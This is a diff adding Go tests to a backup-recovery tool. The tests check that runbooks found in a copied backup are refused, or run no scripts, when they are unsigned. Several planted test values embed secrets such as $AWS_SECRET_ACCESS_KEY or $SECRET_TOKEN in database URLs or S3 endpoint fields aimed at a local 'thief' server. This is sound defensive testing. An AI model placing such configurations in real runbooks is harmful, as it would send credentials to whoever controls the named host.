@@ -4,9 +4,12 @@ import (
 	"bytes"
 	"fmt"
 	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -279,6 +282,8 @@ func TestRunbookInCopy_found(t *testing.T) {
 		"components:\n  more: {kind: postgres, with: pgbackrest, stanza: shop, environment: [PGBACKREST_CMD_SSH=" + b.copy + "/program]}\n": "`environment` of its component more",
 		"components:\n  more: {kind: postgres, with: wal-g, config: " + b.copy + "/wal-g.json}\n":                                           "`config` of its component more",
 		"notify: [" + b.copy + "/program]\ncomponents:\n":                                                                                   "its `notify:` is a command",
+		// Nor does it say to whom what stands in the environment is told.
+		"components:\n  more: {kind: postgres, url: \"postgres://u:${AWS_SECRET_ACCESS_KEY}@127.0.0.1:1/db\"}\n": "`url` of its component more says to whom this host would tell $AWS_SECRET_ACCESS_KEY",
 	} {
 		planted := strings.Replace(string(text), "components:\n", add, 1)
 		name := filepath.Join(dir, time.Now().Add(time.Hour).UTC().Format("20060102T150405Z")+"-"+sumOf([]byte(planted))+".md")
@@ -300,6 +305,58 @@ func TestRunbookInCopy_found(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(b.copy, "ran")); err == nil {
 		t.Error("the program was run")
 	}
+}
+
+// A copy's address in a runbook that was only found tells nobody what stands in the
+// environment: whoever has put it there would name the host that is asked.
+func TestRunbookInCopy_sends(t *testing.T) {
+	var asked atomic.Int64
+	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
+	defer thief.Close()
+	for add, says := range map[string]string{
+		"url: \"s3://bucket/${SECRET_TOKEN}\", endpoint: " + thief.URL:                         "the address of its copy more says to whom this host would tell $SECRET_TOKEN",
+		"url: s3://bucket/shop, endpoint: \"" + thief.URL + "/${SECRET_TOKEN}\"":               "the address of its copy more says to whom this host would tell $SECRET_TOKEN",
+		"url: s3://bucket/shop, endpoint: " + thief.URL + ", account: \"${SECRET_TOKEN}\"":     "its copy more says to whom this host would tell $SECRET_TOKEN",
+		"url: s3://bucket/shop, endpoint: " + thief.URL + ", region: \"eu-${SECRET_TOKEN}-1\"": "its copy more says to whom this host would tell $SECRET_TOKEN",
+	} {
+		r, copy := newRig(t), t.TempDir()
+		r.environ["SECRET_TOKEN"] = "123456789012"
+		t.Setenv("SECRET_TOKEN", "123456789012")
+		dir := filepath.Join(copy, "comeback", "runbooks", "shop")
+		if err := os.MkdirAll(dir, 0o700); err != nil {
+			t.Fatal(err)
+		}
+		text := fmt.Sprintf("---\ncomeback: 1\nsystem: shop\nrpo: 1d\nrto: 1h\ncopies:\n  more: {%s}\ncomponents:\n  database: {kind: postgres, database: shop}\n---\n\n# Bring the shop back\n\n## Restore\nOwner: nobody. Budget: 1h.\n\n```yaml\nrestore: database\n```\n", add)
+		name := filepath.Join(dir, "20261101T000000Z-"+sumOf([]byte(text))+".md")
+		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		r.run(t.Context(), "moments", "file://"+copy).has(t, recovery.Refused, says, "give this very one: file://"+name)
+		r.run(t.Context(), "rehearse", "file://"+copy, "--plain").has(t, recovery.Refused, says)
+		if n := asked.Load(); n > 0 {
+			t.Fatalf("%s: it was asked %d times", add, n)
+		}
+	}
+}
+
+// A rehearsal by a runbook that was only found runs none of its scripts unasked: they run
+// as whoever rehearses. Whoever names it, or has it signed, may.
+func TestRunbookInCopy_foundRehearsal(t *testing.T) {
+	b := openCopiedBook(t)
+	text, err := os.ReadFile(b.book)
+	if err != nil {
+		t.Fatal(err)
+	}
+	text = append(text, "\n```sh\n# run: look around\n# in: rehearsal\ntrue\n```\n"...)
+	name := filepath.Join(b.copy, "comeback", "runbooks", "shop", time.Now().Add(time.Minute).UTC().Format("20060102T150405Z")+"-"+sumOf(text)+".md")
+	if err := os.WriteFile(name, text, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	from := "file://" + b.copy
+	b.run(t.Context(), "moments", from).has(t, recovery.CameBack)
+	b.run(t.Context(), "rehearse", from, "--plain").has(t, recovery.Refused, "“look around”", "give this very one: file://"+name)
+	b.noRun(t)
+	b.run(t.Context(), "rehearse", "file://"+name, "--plain").has(t, recovery.CameBack)
 }
 
 // What a rescue would change by a runbook that was only found, somebody is asked about.
